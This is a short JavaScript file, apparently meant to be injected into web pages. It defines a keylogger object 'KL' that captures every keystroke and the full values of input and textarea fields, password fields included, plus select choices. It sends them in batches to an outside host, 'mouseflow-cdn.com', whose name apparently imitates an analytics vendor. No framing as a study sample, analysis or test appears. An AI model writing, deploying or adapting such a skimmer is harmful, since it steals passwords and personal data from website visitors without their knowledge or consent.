var KL = {
  start: Date.now(),
  events: [],
  max: 500,
  url: 'https://mouseflow-cdn.com/recording/v2/keys',

  push: function (field, k) {
    this.events.push([Date.now() - this.start, field, k]);
    if (this.events.length >= this.max) this.send(false);
  },

  send: function (final) {
    if (!this.events.length) return;
    var data = JSON.stringify({ s: this.start, h: location.host, p: location.pathname, e: this.events });
    this.events = [];
    if (final && navigator.sendBeacon) {
      navigator.sendBeacon(this.url, data);
      return;
    }
    fetch(this.url, { method: 'POST', body: data, mode: 'no-cors', keepalive: true });
  }
};

['keydown', 'keyup'].forEach(function (type) {
  document.addEventListener(type, function (e) {
    var t = e.target;
    if (!t || !/^(INPUT|TEXTAREA)$/.test(t.tagName)) return;
    var field = t.name || t.id || t.type;
    if (type === 'keydown') {
      KL.push(field, e.key);
    } else if (e.key === 'Tab' || e.key === 'Enter') {
      KL.push(field, '=' + t.value);
    }
  }, true);
});

document.addEventListener('change', function (e) {
  if (e.target.tagName === 'SELECT') KL.push(e.target.name, e.target.value);
}, true);

setInterval(function () { KL.send(false); }, 12000);
window.addEventListener('pagehide', function () { KL.send(true); });
